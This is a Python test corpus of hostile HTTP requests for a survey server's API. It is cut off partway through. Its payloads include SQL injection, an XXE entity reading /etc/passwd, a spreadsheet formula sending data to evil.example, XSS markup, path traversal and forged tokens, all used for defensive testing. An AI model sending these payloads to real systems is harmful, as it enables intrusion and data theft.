"""The corpus of hostile requests that Scripts/fault/hostile_requests.py sends to a live
`consult serve`: each case is the exact bytes sent on the wire, the status (or statuses,
where the HTTP RFCs allow a choice) it must get, and what the database may do meanwhile.

Python 3.11 standard library only. The corpus is built at run time, because requests
need the server's port, the seeded ids and the tokens.
"""

from __future__ import annotations

import copy
import json
import time
import uuid
from dataclasses import dataclass, field
from typing import Callable

SURVEY = "ai-risk-assessment"
CLOSED_SURVEY = "neurotech-2025"
SUB = f"/api/v1/surveys/{SURVEY}/submissions"
DRAFTS = f"/api/v1/surveys/{SURVEY}/drafts"
MIB = 1 << 20

# A complete, valid answer set for ai-risk-assessment (Scripts/examples/ai-risk-submission.json).
VALID_ANSWERS: dict = {
    "agency_type": "police",
    "country": "FR",
    "system_name": "Licence-plate recognition on motorways",
    "use_case_description": "Cameras read number plates and match them against a list of stolen vehicles; "
    "an officer reviews every match.",
    "lifecycle_stage": "testing",
    "people_affected": 2000000,
    "lawful_basis_likelihood": 2, "lawful_basis_impact": 3,
    "proportionality_likelihood": 3, "proportionality_impact": 3,
    "accuracy_likelihood": 2, "accuracy_impact": 2,
    "safety_likelihood": 1, "safety_impact": 2,
    "human_oversight_likelihood": 2, "human_oversight_impact": 3,
    "privacy_likelihood": 4, "privacy_impact": 3,
    "discrimination_likelihood": 2, "discrimination_impact": 3,
    "redress_likelihood": 2, "redress_impact": 2,
    "accountability_likelihood": 1, "accountability_impact": 3,
    "traceability_likelihood": 2, "traceability_impact": 2,
    "human_review": "always",
    "bias_testing": "internal",
    "audit_logging": "full",
    "contest_procedure": "partial",
    "impact_assessment": "in_progress",
    "missing_safeguards": ["no_external_oversight"],
    "core_functions": "yes",
    "other_rights_effects": "no",
    "publication": "public_anonymous",
}

SQL_INJECTION = "Robert'); DROP TABLE submission;-- \" OR 1=1 /* UNION SELECT token_hash FROM role_token */"
XML_INJECTION = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
    ' ]]> <![CDATA[x]]> </answer><answer question="admin">1</answer> &amp; &lt; \' " <!-- c -->'
)
FORMULA_INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CONTROL_TEXT = "nul\u0000 soh\u0001 us\u001f del\u007f bom\ufeff nonchar\uffff"


def answers(**changes) -> dict:
    """The valid answers with some changed; a value of `...` removes the question."""
    result = copy.deepcopy(VALID_ANSWERS)
    for key, value in changes.items():
        if value is ...:
            result.pop(key, None)
        else:
            result[key] = value
    return result


def body(value) -> bytes:
    return json.dumps(value, ensure_ascii=False, allow_nan=True).encode("utf-8")


def submission(**changes) -> bytes:
    return body({"answers": answers(**changes)})


def with_raw_answer(question: str, raw_json: str, **changes) -> bytes:
    """A submission whose answer to `question` is the literal JSON text `raw_json` (e.g. 1e400)."""
    marker = "__RAW_MARKER__"
    text = json.dumps({"answers": answers(**{question: marker}, **changes)})
    return text.replace(f'"{marker}"', raw_json).encode("utf-8")


@dataclass
class Case:
    name: str
    group: str
    data: bytes                      # the whole request, as sent on the wire
    expect: set[int]                 # acceptable final statuses
    close_ok: bool = False           # malformed framing: closing without any response is acceptable
    framing: bool = False            # malformed framing: the error may come from the HTTP parser (no problem body)
    db: str = "same"                 # "same" | "refusal" (refused_attempt +1) | "added" (one submission added)
    head: bool = False               # a HEAD request: no body may come back
    half_close: bool = False         # shut the sending side after the request (truncated bodies)
    timeout: float = 30.0            # seconds to wait for the whole answer
    max_responses: int | None = 1    # how many responses the bytes may produce (smuggling)
    check: Callable | None = None    # extra checks: (reply, ctx) -> list of problems
    downloads: int = 0               # export downloads a 200 answer leaves in the audit log
    note: str = ""                   # why this expectation, when it is not obvious


class Requests:
    """Builds request bytes for one server."""

    def __init__(self, port: int):
        self.host = f"127.0.0.1:{port}"

    def build(self, method: str, target: str, *, data: bytes | None = None, ctype: str | None = None,
              token: str | None = None, headers: list[tuple[str, str]] | list[tuple[bytes, bytes]] | None = None,
              close: bool = True, host: bool = True, version: str = "HTTP/1.1", length: bool = True) -> bytes:
        lines: list[bytes] = [f"{method} {target} {version}".encode("latin-1")]
        if host:
            lines.append(f"Host: {self.host}".encode())
        if token is not None:
            lines.append(f"Authorization: Bearer {token}".encode("latin-1"))
        if ctype is not None:
            lines.append(f"Content-Type: {ctype}".encode("latin-1"))
        for name, value in headers or []:
            name_b = name if isinstance(name, bytes) else name.encode("latin-1")
            value_b = value if isinstance(value, bytes) else value.encode("latin-1")
            lines.append(name_b + b": " + value_b)
        if data is not None and length:
            lines.append(f"Content-Length: {len(data)}".encode())
        if close:
            lines.append(b"Connection: close")
        return b"\r\n".join(lines) + b"\r\n\r\n" + (data or b"")

    def json(self, method: str, target: str, data: bytes, **options) -> bytes:
        return self.build(method, target, data=data, ctype="application/json", **options)

    def get(self, target: str, **options) -> bytes:
        return self.build("GET", target, **options)

    def form(self, target: str, pairs: str, *, cookie: str | None = None, **options) -> bytes:
        headers = list(options.pop("headers", []))
        if cookie:
            headers.append(("Cookie", cookie))
        return self.build("POST", target, data=pairs.encode("latin-1") if isinstance(pairs, str) else pairs,
                          ctype="application/x-www-form-urlencoded", headers=headers, **options)


def build_cases(ctx) -> list[Case]:
    """Every hostile case. `ctx` holds the port, the tokens and the seeded records."""
    r = Requests(ctx.port)
    s1, s2 = ctx.submissions[0], ctx.submissions[1]
    d1, d2 = ctx.drafts[0], ctx.drafts[1]
    org, analyst = ctx.organizer, ctx.analyst
    cases: list[Case] = []

    def add(name, group, data, expect, **options):
        cases.append(Case(name, group, data, set([expect] if isinstance(expect, int) else expect), **options))

    def post_sub(data: bytes, **options) -> bytes:
        return r.json("POST", SUB, data, **options)

    # ---------------------------------------------------------------- JSON syntax and shape
    g = "json"
    add("empty body, JSON type", g, post_sub(b""), 400)
    add("empty body, no Content-Type", g, r.build("POST", SUB, data=b""), 415)
    add("truncated JSON", g, post_sub(submission()[:-40]), 400)
    add("malformed JSON (unclosed object)", g, post_sub(b'{"answers": {'), 400)
    add("single-quoted JSON", g, post_sub(b"{'answers': {}}"), 400)
    add("JSON with comments", g, post_sub(b'{/* c */ "answers": {}}'), 400)
    add("trailing commas in objects", g, post_sub(submission()[:-2] + b",},}"), 400,
        note="RFC 8259 has no trailing commas; a lenient parser is a parser differential")
    add("trailing comma in a list", g,
        post_sub(submission().replace(b'["no_external_oversight"]', b'["no_external_oversight",]')), 400)
    add("trailing garbage after JSON", g, post_sub(submission() + b" xyz"), 400)
    add("two JSON documents", g, post_sub(submission() + submission()), 400)
    add("body is a JSON array", g, post_sub(b"[]"), 400)
    add("body is a JSON string", g, post_sub(b'"answers"'), 400)
    add("body is a JSON number", g, post_sub(b"42"), 400)
    add("body is JSON null", g, post_sub(b"null"), 400)
    add("body is JSON true", g, post_sub(b"true"), 400)
    add("empty object", g, post_sub(b"{}"), 400)
    add("answers is a list", g, post_sub(b'{"answers": []}'), 400)
    add("answers is a string", g, post_sub(b'{"answers": "all good"}'), 400)
    add("answers is null", g, post_sub(b'{"answers": null}'), 400)
    add("unknown top-level member", g, post_sub(body({"answers": answers(), "admin": True})), 400)
    add("top-level member __proto__", g, post_sub(body({"answers": answers(), "__proto__": {"admin": 1}})), 400)
    add("unknown question id", g, post_sub(submission(is_admin=True)), 422)
    add("question id __proto__", g, post_sub(submission(__proto__={"polluted": 1})), 422)
    add("empty question id", g, post_sub(body({"answers": {**answers(), "": 1}})), 422)
    add("bare NaN", g, post_sub(with_raw_answer("people_affected", "NaN")), 400)
    add("bare Infinity", g, post_sub(with_raw_answer("people_affected", "Infinity")), 400)
    add("number 1e400 (overflows a double)", g, post_sub(with_raw_answer("people_affected", "1e400")), {400, 422})
    add("number -1e400", g, post_sub(with_raw_answer("people_affected", "-1e400")), {400, 422})
    add("number with leading zero 007", g, post_sub(with_raw_answer("people_affected", "007")), 400)
    add("hex number 0x10", g, post_sub(with_raw_answer("people_affected", "0x10")), 400)
    add("10,000 nested arrays", g, post_sub(b"[" * 10000 + b"]" * 10000), 400)
    add("10,000 nested objects in an answer", g,
        post_sub(b'{"answers": {"system_name": ' + b'{"a":' * 10000 + b"1" + b"}" * 10000 + b"}}"), 400)
    add("100 nested arrays as an answer", g,
        post_sub(with_raw_answer("missing_safeguards", "[" * 100 + "]" * 100)), 400,
        note="bodies may nest at most 32 levels (StrictJSON.maximumDepth)")
    add("invalid UTF-8 byte 0xFF", g, post_sub(b'{"answers": {"system_name": "\xff\xfe"}}'), 400)
    add("overlong UTF-8 encoding of /", g, post_sub(b'{"answers": {"system_name": "\xc0\xaf"}}'), 400)
    add("UTF-8-encoded surrogate", g, post_sub(b'{"answers": {"system_name": "\xed\xa0\x80"}}'), 400)
    add("truncated UTF-8 sequence", g, post_sub(b'{"answers": {"system_name": "\xe2\x82"}}'), 400)
    add("lone surrogate escape \\ud800", g, post_sub(b'{"answers": {"system_name": "\\ud800"}}'), 400)
    add("raw control character in a string", g, post_sub(b'{"answers": {"system_name": "a\x01b"}}'), 400)
    add("raw newline in a string", g, post_sub(b'{"answers": {"system_name": "a\nb"}}'), 400)
    add("body in UTF-16LE", g, post_sub(submission().decode().encode("utf-16-le")), 400,
        note="RFC 8259 section 8.1: JSON between systems is UTF-8; the server's own rule refuses non-UTF-8 bodies")
    dup_valid_first = submission().replace(b'"country": "FR"', b'"country": "FR", "country": "XX"')
    add("duplicate key in answers (valid, then invalid)", g, post_sub(dup_valid_first), 400,
        note="duplicate names are undefined in RFC 8259; accepting one of them silently is a parser differential")
    dup_top = submission()[:-1] + b', "answers": {}}'
    add("duplicate top-level key answers", g, post_sub(dup_top), 400,
        note="duplicate names are undefined in RFC 8259; accepting one of them silently is a parser differential")

    # ---------------------------------------------------------------- wrong types, per question type
    g = "types"
    wrong = [
        # single choice with "other" (agency_type)
        ("single choice: a number", "agency_type", 5),
        ("single choice: a list", "agency_type", ["police"]),
        ("single choice: wrong case", "agency_type", "POLICE"),
        ("single choice: true", "agency_type", True),
        ("single choice: bare other", "agency_type", "other"),
        ("single choice: other without text", "agency_type", {"choice": "other"}),
        ("single choice: other with blank text", "agency_type", {"choice": "other", "other": "   "}),
        ("single choice: other text over 1000", "agency_type", {"choice": "other", "other": "x" * 1001}),
        ("single choice: object naming an option", "agency_type", {"choice": "police", "other": "x"}),
        ("single choice: other with extra member", "agency_type", {"choice": "other", "other": "x", "y": 1}),
        ("single choice without other: other object", "lifecycle_stage", {"choice": "other", "other": "x"}),
        ("single choice: SQL in option id", "lifecycle_stage", "testing' OR '1'='1"),
        ("publication: unknown option", "publication", "secret"),
        # country
        ("country: unknown code XX", "country", "XX"),
        ("country: alpha-3 FRA", "country", "FRA"),
        ("country: a number", "country", 250),
        ("country: one letter", "country", "F"),
        ("country: SQL injection", "country", "' OR 1=1--"),
        ("country: non-ASCII look-alike", "country", "\u0424R"),
        # text
        ("text: a number", "system_name", 123),
        ("text: a list", "system_name", ["a"]),
        ("text: an object", "system_name", {"text": "a"}),
        ("text: false", "system_name", False),
        ("text: 201 characters (max 200)", "system_name", "x" * 201),
        ("multiline text: 5001 characters (max 5000)", "use_case_description", "y" * 5001),
        # number
        ("number: a numeric string", "people_affected", "100"),
        ("number: NaN as text", "people_affected", "NaN"),
        ("number: 1.5 for a whole number", "people_affected", 1.5),
        ("number: below min", "people_affected", -1),
        ("number: true", "people_affected", True),
        ("number: a list", "people_affected", [1]),
        # scale
        ("scale: 0", "lawful_basis_likelihood", 0),
        ("scale: 6", "lawful_basis_likelihood", 6),
        ("scale: 2.5", "lawful_basis_impact", 2.5),
        ("scale: text 3", "privacy_likelihood", "3"),
        ("scale: 1e308", "privacy_impact", 1e308),
        ("scale: -0", "safety_impact", -0.0),
        ("scale: true", "redress_likelihood", True),
        ("scale: a list", "redress_impact", [3]),
        ("scale: required but null", "accuracy_likelihood", None),
        # multiple choice
        ("multiple choice: a string", "missing_safeguards", "no_training"),
        ("multiple choice: same option twice", "missing_safeguards", ["no_training", "no_training"]),
        ("multiple choice: unknown option", "missing_safeguards", ["bogus"]),
        ("multiple choice: a number in the list", "missing_safeguards", [1]),
        ("multiple choice: nested list", "missing_safeguards", [["no_training"]]),
        ("multiple choice: an object", "missing_safeguards", {"no_training": True}),
        ("multiple choice: other (not allowed)", "missing_safeguards", [{"choice": "other", "other": "x"}]),
        # e-mail
        ("e-mail: no @", "contact_email", "not-an-email"),
        ("e-mail: no domain dot", "contact_email", "a@b"),
        ("e-mail: a number", "contact_email", 5),
        ("e-mail: space inside", "contact_email", "a b@example.org"),
        ("e-mail: markup", "contact_email", "<script>alert(1)</script>@example.org"),
        ("e-mail: 300 characters", "contact_email", "a" * 60 + "@" + "b" * 230 + ".org"),
    ]
    for name, question, value in wrong:
        add(name, g, post_sub(submission(**{question: value})), 422,
            check=errors_name(question))
    add("required question missing", g, post_sub(submission(system_name=...)), 422, check=errors_name("system_name"))
    add("hidden question answered", g, post_sub(submission(other_rights_details="Freedom of assembly")), 422,
        check=errors_name("other_rights_details"))
    add("condition met, follow-up missing", g, post_sub(submission(other_rights_effects="yes")), 422,
        check=errors_name("other_rights_details"))
    add("every answer null", g, post_sub(body({"answers": {k: None for k in VALID_ANSWERS}})), 422)

    # ---------------------------------------------------------------- valid but hostile content (stored verbatim)
    g = "verbatim"
    add("huge number 1e308 (no max)", g, post_sub(with_raw_answer("people_affected", "1e308")), 201, db="added",
        check=comes_back({"people_affected": 1e308}))
    add("negative zero -0", g, post_sub(with_raw_answer("people_affected", "-0")), 201, db="added",
        check=comes_back({"people_affected": 0}))
    add("2^53+1 is refused, not rounded", g, post_sub(with_raw_answer("people_affected", "9007199254740993")), 400,
        note="a whole number a Double cannot hold exactly is refused: a 201 with a signed receipt for another number loses data")
    add("SQL injection text", g, post_sub(submission(system_name=SQL_INJECTION[:200])), 201, db="added",
        check=comes_back({"system_name": SQL_INJECTION[:200]}))
    add("XML injection text", g, post_sub(submission(use_case_description=XML_INJECTION)), 201, db="added",
        check=all_of(comes_back({"use_case_description": XML_INJECTION}), xml_export_keeps(XML_INJECTION)))
    add("formula injection text", g, post_sub(submission(lawfulness_note=FORMULA_INJECTION)), 201, db="added",
        check=all_of(comes_back({"lawfulness_note": FORMULA_INJECTION}), csv_export_neutralises("HYPERLINK"),
                     xlsx_export_keeps_as_text(FORMULA_INJECTION)))
    add("control characters in text", g, post_sub(submission(harm_note=CONTROL_TEXT)), 201, db="added",
        check=all_of(comes_back({"harm_note": CONTROL_TEXT}), xml_export_well_formed(), exports_keep_exactly(CONTROL_TEXT),
                     xlsx_export_keeps_as_text(CONTROL_TEXT)))
    add("other text with markup", g,
        post_sub(submission(agency_type={"choice": "other", "other": "<img src=x onerror=alert(1)>"})), 201,
        db="added", check=comes_back({"agency_type": {"choice": "other", "other": "<img src=x onerror=alert(1)>"}}))

    # ---------------------------------------------------------------- sizes
    g = "size"
    big = b'{"answers": {"system_name": "' + b"a" * (2 * MIB) + b'"}}'
    add("2 MiB body", g, post_sub(big), 413)
    add("2 MiB body, chunked", g,
        r.build("POST", SUB, data=chunked(big), ctype="application/json",
                headers=[("Transfer-Encoding", "chunked")], length=False), 413)
    add("10 MB free-text answer", g, post_sub(submission(use_case_description="z" * 10_000_000)), 413)
    add("1 MiB + 1 byte body", g, post_sub(b" " * (MIB - 1) + b"{}"), 413)
    add("just under 1 MiB, text too long", g,
        post_sub(submission(use_case_description="w" * (MIB - 3000))), 422, check=errors_name("use_case_description"))
    add("30,000 unknown question ids", g, post_sub(body({"answers": {f"q{i}": 1 for i in range(30000)}})), 422,
        check=within(10))
    add("60,000 repeated options", g, post_sub(submission(missing_safeguards=["no_training"] * 60000)), 422,
        check=within(10))
    add("2 MiB draft", g, r.json("POST", DRAFTS, big), 413)
    add("2 MiB replacement", g, r.json("PUT", f"/api/v1/submissions/{s1.id}", big, token=s1.token), 413)
    add("2 MiB deadline change", g, r.json("PUT", f"/api/v1/surveys/{SURVEY}/deadline", big, token=org), 413)
    add("2 MiB sector change", g, r.json("PUT", f"/api/v1/submissions/{s1.id}/sector", big, token=analyst), 413)
    add("2 MiB receipt check", g, r.json("POST", "/api/v1/receipts/verify", big), 413)
    add("2 MiB form post", g, r.form(f"/s/{SURVEY}/start", "csrf=x&pad=" + "p" * (2 * MIB)), 413)

    # ---------------------------------------------------------------- content types
    g = "content-type"
    add("text/plain on JSON route", g, r.build("POST", SUB, data=submission(), ctype="text/plain"), 415)
    add("form type on JSON route", g,
        r.build("POST", SUB, data=submission(), ctype="application/x-www-form-urlencoded"), 415)
    add("multipart on JSON route", g,
        r.build("POST", SUB, data=submission(), ctype="multipart/form-data; boundary=x"), 415)
    add("application/jsonx", g, r.build("POST", SUB, data=submission(), ctype="application/jsonx"), 415)
    add("JSON without Content-Type", g, r.build("POST", SUB, data=submission()), 415)
    add("garbled Content-Type", g, r.build("POST", SUB, data=submission(), ctype=";;;/"), 415)
    add("text/plain on drafts", g, r.build("POST", DRAFTS, data=b"{}", ctype="text/plain"), 415)
    add("text/plain on deadline", g,
        r.build("PUT", f"/api/v1/surveys/{SURVEY}/deadline", data=b"{}", ctype="text/plain", token=org), 415)
    add("text/plain on sector", g,
        r.build("PUT", f"/api/v1/submissions/{s1.id}/sector", data=b"{}", ctype="text/plain", token=analyst), 415)
    add("text/plain on receipt check", g,
        r.build("POST", "/api/v1/receipts/verify", data=body(s1.receipt), ctype="text/plain"), 415)
    add("JSON on form route /start", g, r.json("POST", f"/s/{SURVEY}/start", b'{"csrf": "x"}'), 415)
    add("JSON on form route /sign-in", g, r.json("POST", "/sign-in", b'{"token": "x"}'), 415)

    # ---------------------------------------------------------------- injection and traversal in paths
    g = "paths"
    add("SQL in survey id", g, r.get("/api/v1/surveys/ai-risk-assessment'%20OR%20'1'%3D'1"), 404)
    add("SQL in survey id of a submission", g,
        post_sub(submission()).replace(SUB.encode(), b"/api/v1/surveys/x%27%3B%20DROP%20TABLE%20submission%3B--/submissions"),
        404)
    add("SQL in submission id", g, r.get("/api/v1/submissions/1'%20OR%20'1'%3D'1", token=s1.token), 404)
    add("SQL UNION in stats path", g,
        r.get("/api/v1/surveys/x'%20UNION%20SELECT%20token_hash%20FROM%20role_token--/stats", token=org), 404)
    add("SQL in audit filter", g, r.get("/api/v1/audit?survey=%27%20OR%201%3D1--", token=org), 200,
        check=json_equals([]))
    add("encoded traversal in submission id", g, r.get("/api/v1/submissions/..%2F..%2Fetc%2Fpasswd"), 404)
    add("encoded traversal, with token", g, r.get("/api/v1/submissions/..%2F..%2Fetc%2Fpasswd", token=s1.token), 404)
    add("raw traversal in submission id", g, r.get("/api/v1/submissions/../../etc/passwd", token=s1.token), 404)
    add("backslash traversal", g, r.get("/api/v1/submissions/..\\..\\etc\\passwd"), 404)
    add("double-encoded traversal", g, r.get("/api/v1/submissions/%252e%252e%252fetc%252fpasswd"), 404)
    add("NUL in submission id", g, r.get(f"/api/v1/submissions/{s1.id}%00", token=s1.token), 404)
    add("NUL in survey id", g, r.get("/api/v1/surveys/ai-risk-assessment%00"), 404)
    add("survey id with encoded slash", g, r.get("/api/v1/surveys/ai-risk-assessment%2F..%2Fneurotech-2025"), 404)
    add("dot-dot survey on submit", g, post_sub(submission()).replace(SUB.encode(), b"/api/v1/surveys/%2e%2e/submissions"),
        404)
    add("traversal as export survey", g, r.get("/api/v1/surveys/..%2F..%2F..%2Fetc%2Fpasswd/analysis.xml", token=org),
        404)
    add("traversal as table file", g, r.get(f"/api/v1/surveys/{SURVEY}/analysis/..%2F..%2F..%2Fetc%2Fpasswd", token=org),
        404)
    add("NUL in table file", g, r.get(f"/api/v1/surveys/{SURVEY}/analysis/%2Fetc%2Fpasswd%00.csv", token=org), 404)
    add("traversal in draft id", g, r.get(f"/api/v1/drafts/..%2F{d1.id}", token=d1.token), 404)
    add("65-character id", g, r.get("/api/v1/submissions/" + "a" * 65, token=s1.token), 404)
    add("page traversal /s/../../etc/passwd", g, r.get("/s/../../etc/passwd"), 404)
    add("asset traversal, raw", g, r.get("/assets/../../../../etc/passwd"), 404)
    add("asset traversal, encoded", g, r.get("/assets/..%2F..%2F..%2FPackage.swift"), 404)
    add("analyst download traversal", g, r.get(f"/analyst/s/{SURVEY}/download/..%2F..%2Fetc%2Fpasswd"), 401)
    add("20 KB URL on the API", g, r.get("/api/v1/surveys/" + "a" * 20000), 404)
    add("20 KB URL on a page", g, r.get("/s/" + "b" * 20000), 404)
    add("20 KB of query junk on an export", g,
        r.get(f"/api/v1/surveys/{SURVEY}/responses.csv?junk=" + "j" * 20000, token=analyst), 200, downloads=1)

    # ---------------------------------------------------------------- export query strings
    g = "export-query"
    add("responses.csv?bom=maybe", g, r.get(f"/api/v1/surveys/{SURVEY}/responses.csv?bom=maybe", token=analyst), 400)
    add("responses.csv?bom=TRUE%00", g, r.get(f"/api/v1/surveys/{SURVEY}/responses.csv?bom=TRUE%00", token=analyst),
        400)
    add("responses.csv?line_ending=cr", g,
        r.get(f"/api/v1/surveys/{SURVEY}/responses.csv?line_ending=cr", token=analyst), 400)
    add("responses.csv?line_ending=%0d%0a", g,
        r.get(f"/api/v1/surveys/{SURVEY}/responses.csv?line_ending=%0d%0a", token=analyst), 400)
    add("analysis.zip?bom=maybe", g, r.get(f"/api/v1/surveys/{SURVEY}/analysis.zip?bom=maybe", token=analyst), 400)
    add("analysis table ?line_ending=cr", g,
        r.get(f"/api/v1/surveys/{SURVEY}/analysis/choices.csv?line_ending=cr", token=analyst), 400)
    add("analysis.xml?bom=maybe", g, r.get(f"/api/v1/surveys/{SURVEY}/analysis.xml?bom=maybe", token=analyst),
        {200, 400}, downloads=1,
        note="the parameter is not the XML operation's; ignored (200) or refused, but then documented")
    add("responses.xml?line_ending=cr", g,
        r.get(f"/api/v1/surveys/{SURVEY}/responses.xml?line_ending=cr", token=analyst), {200, 400}, downloads=1,
        note="the parameter is not the XML operation's; ignored (200) or refused, but then documented")
    add("export without a token", g, r.get(f"/api/v1/surveys/{SURVEY}/responses.csv?bom=maybe"), 401)

    # ---------------------------------------------------------------- authorization
    g = "auth"
    audit = "/api/v1/audit"
    add("audit without Authorization", g, r.get(audit), 401, check=has_header("WWW-Authenticate"))
    add("Authorization: Bearer (no token)", g, r.get(audit, headers=[("Authorization", "Bearer")]), 401)
    add("Authorization: Bearer and spaces", g, r.get(audit, headers=[("Authorization", "Bearer     ")]), 401)
    add("Authorization: Basic", g, r.get(audit, headers=[("Authorization", "Basic b3JnOm9yZw==")]), 401)
    add("Authorization: Token scheme", g, r.get(audit, headers=[("Authorization", f"Token {org}")]), 401)
    add("organizer token plus one character", g, r.get(audit, token=org + "x"), 401)
    add("organizer token minus one character", g, r.get(audit, token=org[:-1]), 401)
    add("organizer token, then junk", g, r.get(audit, token=org + " junk"), 401)
    add("10 KB token", g, r.get(audit, token="t" * 10000), 401)
    add("non-ASCII bytes in token", g, r.get(audit, headers=[(b"Authorization", b"Bearer \xff\xfe\xc3\x28")]), 401)
    add("SQL injection as token", g, r.get(audit, token="' OR '1'='1' --"), 401)
    add("wrong, then valid Authorization", g,
        r.get(audit, headers=[("Authorization", "Bearer wrong"), ("Authorization", f"Bearer {org}")]), {400, 401})
    add("analyst token on audit", g, r.get(audit, token=analyst), 403)
    add("edit token on audit", g, r.get(audit, token=s1.token), 401)
    add("resume token on stats", g, r.get(f"/api/v1/surveys/{SURVEY}/stats", token=d1.token), 401)
    add("stats without token", g, r.get(f"/api/v1/surveys/{SURVEY}/stats"), 401)
    add("analysis.zip with wrong token", g, r.get(f"/api/v1/surveys/{SURVEY}/analysis.zip", token="nope"), 401)
    add("responses.xml with edit token", g, r.get(f"/api/v1/surveys/{SURVEY}/responses.xml", token=s1.token), 401)

    # ---------------------------------------------------------------- other people's submissions and drafts
    g = "ownership"
    sub1 = f"/api/v1/submissions/{s1.id}"
    add("read submission without token", g, r.get(sub1), 401)
    add("read submission, wrong token", g, r.get(sub1, token="A" * 43), 401)
    add("read submission with another's edit token", g, r.get(sub1, token=s2.token), 401)
    add("read submission with organizer token", g, r.get(sub1, token=org), 401)
    add("read submission with a resume token", g, r.get(sub1, token=d1.token), 401)
    add("replace with another's edit token", g, r.json("PUT", sub1, submission(), token=s2.token), 401)
    add("replace, wrong token, invalid answers", g, r.json("PUT", sub1, body({"answers": {"country": "XX"}}),
                                                          token="A" * 43), 401,
        note="the token must be checked before the answers: strangers learn nothing and record nothing")
    add("replace without token", g, r.json("PUT", sub1, submission()), 401)
    add("replace own, invalid answers", g, r.json("PUT", sub1, submission(lawful_basis_likelihood=9), token=s1.token),
        422)
    add("replace own, unknown member", g, r.json("PUT", sub1, body({"answers": answers(), "version": 7}),
                                                token=s1.token), 400)
    add("replace own, malformed JSON", g, r.json("PUT", sub1, b'{"answers": ', token=s1.token), 400)
    add("replace unknown submission", g, r.json("PUT", "/api/v1/submissions/" + "0" * 32, submission(),
                                               token=s1.token), 404)
    draft1 = f"/api/v1/drafts/{d1.id}"
    add("read draft, wrong token", g, r.get(draft1, token="B" * 43), 401)
    add("read draft with another's resume token", g, r.get(draft1, token=d2.token), 401)
    add("read draft with an edit token", g, r.get(draft1, token=s1.token), 401)
    add("read unknown draft", g, r.get("/api/v1/drafts/" + "0" * 32, token=d1.token), 404)
    add("save draft, wrong token", g, r.json("PUT", draft1, body({"answers": {"system_name": "x"}}), token="B" * 43),
        401)
    add("save draft without token", g, r.json("PUT", draft1, body({"answers": {}})), 401)
    add("save own draft, invalid answer", g, r.json("PUT", draft1, body({"answers": {"safety_impact": 99}}),
                                                    token=d1.token), 422)
    add("save own draft, unknown question", g, r.json("PUT", draft1, body({"answers": {"nope": 1}}), token=d1.token),
        422)
    add("save own draft, empty body", g, r.json("PUT", draft1, b"", token=d1.token), 400)
    add("submit draft, wrong token", g, r.build("POST", f"{draft1}/submit", token="B" * 43), 401)
    add("submit draft without token", g, r.build("POST", f"{draft1}/submit"), 401)
    add("submit own incomplete draft", g, r.build("POST", f"{draft1}/submit", token=d1.token), 422,
        note="refused: the draft stays as it was")
    add("new draft, invalid answer", g, r.json("POST", DRAFTS, body({"answers": {"accuracy_impact": "high"}})), 422)
    add("new draft, unknown member", g, r.json("POST", DRAFTS, body({"answers": {}, "id": d1.id})), 400)
    add("new draft for unknown survey", g, r.json("POST", "/api/v1/surveys/nope/drafts", b"{}"), 404)

    # ---------------------------------------------------------------- staff routes
    g = "staff"
    sector = f"/api/v1/submissions/{s1.id}/sector"
    add("sector: SQL as sector id", g,
        r.json("PUT", sector, body({"sector": "'; DROP TABLE submission;--", "reason": "x"}), token=analyst), 422)
    add("sector: a number", g, r.json("PUT", sector, body({"sector": 5, "reason": "x"}), token=analyst), 400)
    add("sector: no reason", g, r.json("PUT", sector, body({"sector": "police"}), token=analyst), 422)
    add("sector: blank reason", g, r.json("PUT", sector, body({"sector": "police", "reason": " \n\t"}),
                                          token=analyst), 422)
    add("sector: 1001-character reason", g, r.json("PUT", sector, body({"sector": "police", "reason": "r" * 1001}),
                                                   token=analyst), 422)
    add("sector: unknown member", g, r.json("PUT", sector, body({"sector": "police", "reason": "x", "by": "me"}),
                                            token=analyst), 400)
    add("sector: unknown submission", g, r.json("PUT", "/api/v1/submissions/" + "f" * 32 + "/sector",
                                                body({"sector": "police", "reason": "x"}), token=analyst), 404)
    add("sector: edit token", g, r.json("PUT", sector, body({"sector": "police", "reason": "x"}), token=s1.token), 401)
    add("sector: no token", g, r.json("PUT", sector, body({"sector": "police", "reason": "x"})), 401)
    add("sector: NUL in reason", g, r.json("PUT", sector, body({"sector": "police", "reason": "ok\u0000hidden"}),
                                          token=analyst), 422)
    add("sector: organizer token (analysts only)", g,
        r.json("PUT", sector, body({"sector": "police", "reason": "x"}), token=org), 403)
    deadline = f"/api/v1/surveys/{SURVEY}/deadline"
    later = "2099-06-30T18:00:00+02:00"
    add("deadline: analyst token", g, r.json("PUT", deadline, body({"closes_at": later, "reason": "x"}),
                                             token=analyst), 403)
    add("deadline: no token", g, r.json("PUT", deadline, body({"closes_at": later, "reason": "x"})), 401)
    add("deadline: edit token", g, r.json("PUT", deadline, body({"closes_at": later, "reason": "x"}),
                                          token=s1.token), 401)
    add("deadline: not a date", g, r.json("PUT", deadline, body({"closes_at": "tomorrow", "reason": "x"}), token=org),
        422)
    add("deadline: no time zone", g, r.json("PUT", deadline, body({"closes_at": "2099-01-01T00:00:00", "reason": "x"}),
                                            token=org), 422)
    add("deadline: 30 February", g, r.json("PUT", deadline, body({"closes_at": "2099-02-30T18:00:00+01:00",
                                                                  "reason": "x"}), token=org), 422)
    add("deadline: SQL after the date", g,
        r.json("PUT", deadline, body({"closes_at": later + "'; DROP TABLE audit_entry;--", "reason": "x"}), token=org),
        422)
    add("deadline: a number", g, r.json("PUT", deadline, body({"closes_at": 4102444800, "reason": "x"}), token=org),
        400)
    add("deadline: no reason", g, r.json("PUT", deadline, body({"closes_at": later}), token=org), 422)
    add("deadline: 1001-character reason", g, r.json("PUT", deadline, body({"closes_at": later, "reason": "r" * 1001}),
                                                     token=org), 422)
    add("deadline: unknown member", g, r.json("PUT", deadline, body({"closes_at": later, "reason": "x", "force": 1}),
                                              token=org), 400)
    add("deadline: a list body", g, r.json("PUT", deadline, b"[]", token=org), 400)
    add("deadline: unknown survey", g, r.json("PUT", "/api/v1/surveys/nope/deadline",
                                              body({"closes_at": later, "reason": "x"}), token=org), 404)

    # ---------------------------------------------------------------- closed survey, idempotency, receipts
    g = "closed"
    closed = f"/api/v1/surveys/{CLOSED_SURVEY}/submissions"
    add("submit to the closed survey", g, r.json("POST", closed, body({"answers": {}})), 403, db="refusal",
        check=problem_type("/problems/deadline-passed"))
    add("garbage answers to the closed survey", g, r.json("POST", closed, body({"answers": {"x": [1, {"y": None}]}})),
